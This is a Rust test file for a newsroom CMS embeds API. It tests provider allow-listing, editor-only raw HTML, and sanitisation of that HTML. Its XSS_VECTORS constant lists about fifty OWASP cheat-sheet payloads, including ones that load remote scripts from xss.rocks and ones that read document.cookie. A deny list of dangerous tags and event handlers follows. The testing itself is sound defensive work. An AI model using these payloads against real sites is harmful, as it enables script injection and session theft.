//! Editorial embeds: allow-listed third-party media with server-built markup, sanitised raw
//! HTML for editors, and teaser cards of our own articles.

use serde_json::{Value, json};

use crate::helpers::{TestApp, TestUser, assert_problem};

async fn create(app: &TestApp, user: &TestUser, body: Value) -> reqwest::Response {
    app.post_json("/api/v1/embeds", Some(user.token()), &body)
        .await
}

async fn created(app: &TestApp, user: &TestUser, body: Value) -> Value {
    let response = create(app, user, body).await;
    assert_eq!(response.status(), 201);
    response.json().await.unwrap()
}

#[tokio::test]
async fn external_media_is_recognised_and_its_markup_built_by_the_server() {
    let app = TestApp::spawn().await;
    let writer = app.user("writer").await;
    let cases = [
        (
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
            "youtube",
            "dQw4w9WgXcQ",
            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
        ),
        (
            "https://vimeo.com/76979871",
            "vimeo",
            "76979871",
            "https://player.vimeo.com/video/76979871",
        ),
        (
            "https://twitter.com/nasa/status/1234567890123456789",
            "x",
            "1234567890123456789",
            "twitter-tweet",
        ),
        (
            "https://www.instagram.com/p/CxYz123AbC/",
            "instagram",
            "CxYz123AbC",
            "https://www.instagram.com/p/CxYz123AbC/embed",
        ),
        (
            "https://open.spotify.com/episode/4rOoJ6Egrf8K2IrywzwOMk",
            "spotify",
            "episode/4rOoJ6Egrf8K2IrywzwOMk",
            "https://open.spotify.com/embed/episode/4rOoJ6Egrf8K2IrywzwOMk",
        ),
        (
            "https://datawrapper.dwcdn.net/AbC12/3/",
            "datawrapper",
            "AbC12/3",
            "https://datawrapper.dwcdn.net/AbC12/3/",
        ),
        (
            "https://t.me/durov/142",
            "telegram",
            "durov/142",
            "https://t.me/durov/142?embed=1",
        ),
        (
            "https://www.tiktok.com/@scout2015/video/6718335390845095173",
            "tiktok",
            "6718335390845095173",
            "https://www.tiktok.com/embed/v2/6718335390845095173",
        ),
    ];
    for (url, provider, media_id, in_markup) in cases {
        let embed = created(
            &app,
            &writer,
            json!({"kind": "external", "url": url, "label": "Watch"}),
        )
        .await;
        assert_eq!(embed["kind"], "external");
        assert_eq!(embed["provider"], provider, "{url}");
        assert_eq!(embed["media_id"], media_id, "{url}");
        let html = embed["html"].as_str().unwrap();
        assert!(html.contains(in_markup), "{url}: {html}");
        assert!(!html.contains("<script"), "{html}");
    }
}

#[tokio::test]
async fn unknown_providers_and_malformed_urls_are_refused_with_the_reason() {
    let app = TestApp::spawn().await;
    let writer = app.user("writer").await;
    for url in [
        "https://example.com/video/1",
        "https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ",
        "http://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "not a url",
        "javascript:alert(1)",
        "https://www.youtube.com/channel/UC123",
        "https://t.me/c/123/456",
    ] {
        let response = create(&app, &writer, json!({"kind": "external", "url": url})).await;
        let problem = assert_problem(response, 422).await;
        assert_eq!(problem["errors"][0]["field"], "url", "{url}");
        assert!(problem["detail"].as_str().unwrap().len() > 10, "{problem}");
    }
    // Client markup is never accepted for external media.
    let response = create(
        &app,
        &writer,
        json!({"kind": "external", "url": "https://youtu.be/dQw4w9WgXcQ", "html": "<script>x</script>"}),
    )
    .await;
    assert_problem(response, 422).await;
    let response = create(&app, &writer, json!({"kind": "podcast", "url": "x"})).await;
    assert_problem(response, 422).await;
}

/// A real list of XSS vectors (OWASP filter-evasion cheat sheet and common payloads).
const XSS_VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<BODY ONLOAD=alert('XSS')>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"https://evil.example/embed\"></iframe>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
];

fn assert_harmless(output: &str, input: &str) {
    let lower = output.to_lowercase();
    for banned in [
        "<script",
        "javascript:",
        "vbscript:",
        "srcdoc",
        "<object",
        "<embed",
        "<form",
        "<meta",
        "<base",
        "<style",
        "expression(",
    ] {
        assert!(
            !lower.contains(banned),
            "{banned} survived {input:?}: {output}"
        );
    }
    for handler in [
        "onerror",
        "onload",
        "onmouseover",
        "onfocus",
        "ontoggle",
        "onclick",
    ] {
        assert!(
            !lower.contains(handler),
            "{handler} survived {input:?}: {output}"
        );
    }
    if lower.contains("<iframe") {
        assert!(
            lower.contains("src=\"https://www.youtube"),
            "foreign iframe survived {input:?}: {output}"
        );
    }
}

#[tokio::test]
async fn html_embeds_are_for_editors_and_every_xss_vector_is_neutralised() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let writer = app.user_created_by(&admin, "writer").await;
    let editor = app.user_created_by(&admin, "editor").await;

    let denied = create(&app, &writer, json!({"kind": "html", "html": "<p>Hi</p>"})).await;
    assert_problem(denied, 403).await;

    for vector in XSS_VECTORS {
        let html = format!("<p>Kept paragraph</p>{vector}");
        let response = create(&app, &editor, json!({"kind": "html", "html": html})).await;
        assert_eq!(response.status(), 201, "{vector}");
        let embed: Value = response.json().await.unwrap();
        let output = embed["html"].as_str().unwrap();
        assert_harmless(output, vector);
        assert!(output.contains("<p>Kept paragraph</p>"), "{output}");
        // What is stored is what was returned.
        let stored: Value = app
            .get_as(
                &format!("/api/v1/embeds/{}", embed["id"].as_str().unwrap()),
                editor.token(),
            )
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(stored["html"], embed["html"]);
    }

    let allowed = created(
        &app,
        &editor,
        json!({"kind": "html", "html": "<figure><iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\"></iframe><figcaption>A <a href=\"https://example.org\">link</a></figcaption></figure>"}),
    )
    .await;
    let output = allowed["html"].as_str().unwrap();
    assert!(
        output.contains("<iframe") && output.contains("youtube.com/embed/dQw4w9WgXcQ"),
        "{output}"
    );
    assert!(output.contains("<figcaption>"), "{output}");

    let nothing_left = create(
        &app,
        &editor,
        json!({"kind": "html", "html": "<script>alert(1)</script>"}),
    )
    .await;
    let problem = assert_problem(nothing_left, 422).await;
    assert_eq!(problem["errors"][0]["field"], "html");
}

#[tokio::test]
async fn article_teasers_point_at_existing_articles() {
    let app = TestApp::spawn().await;
    let writer = app.user("writer").await;
    let missing = uuid::Uuid::new_v4();
    let response = create(
        &app,
        &writer,
        json!({"kind": "article", "article_id": missing, "image_id": missing}),
    )
    .await;
    let problem = assert_problem(response, 422).await;
    let fields: Vec<&str> = problem["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    assert_eq!(fields, vec!["article_id", "image_id"]);

    let article: Value = app
        .post_json(
            "/api/v1/articles",
            Some(writer.token()),
            &json!({"headline": "Target"}),
        )
        .await
        .json()
        .await
        .unwrap();
    let teaser = created(
        &app,
        &writer,
        json!({"kind": "article", "article_id": article["id"], "label": "Editorial", "headline": "Read this"}),
    )
    .await;
    assert_eq!(teaser["kind"], "article");
    assert_eq!(teaser["label"], "Editorial");
    assert_eq!(teaser["article_id"], article["id"]);
    assert_eq!(teaser["headline"], "Read this");
}

#[tokio::test]
async fn patch_changes_fields_of_the_embeds_own_kind_only() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let writer = app.user_created_by(&admin, "writer").await;
    let editor = app.user_created_by(&admin, "editor").await;
    let own = created(
        &app,
        &writer,
        json!({"kind": "external", "url": "https://youtu.be/dQw4w9WgXcQ"}),
    )
    .await;
    let path = format!("/api/v1/embeds/{}", own["id"].as_str().unwrap());
    let patch = |user: &TestUser, body: Value| {
        let request = app.request("PATCH", &path, Some(user.token())).json(&body);
        async move { request.send().await.unwrap() }
    };
    let moved = patch(
        &writer,
        json!({"url": "https://vimeo.com/76979871", "label": "Video"}),
    )
    .await;
    assert_eq!(moved.status(), 200);
    let moved: Value = moved.json().await.unwrap();
    assert_eq!(moved["provider"], "vimeo");
    assert_eq!(moved["label"], "Video");

    let wrong_kind = patch(&writer, json!({"html": "<p>x</p>"})).await;
    let problem = assert_problem(wrong_kind, 422).await;
    assert_eq!(problem["errors"][0]["field"], "html");
    let bad_url = patch(&writer, json!({"url": "https://example.com/x"})).await;
    assert_problem(bad_url, 422).await;

    let editors = created(
        &app,
        &editor,
        json!({"kind": "external", "url": "https://youtu.be/dQw4w9WgXcQ"}),
    )
    .await;
    let denied = app
        .request(
            "PATCH",
            &format!("/api/v1/embeds/{}", editors["id"].as_str().unwrap()),
            Some(writer.token()),
        )
        .json(&json!({"label": "Mine now"}))
        .send()
        .await
        .unwrap();
    assert_problem(denied, 403).await;
}
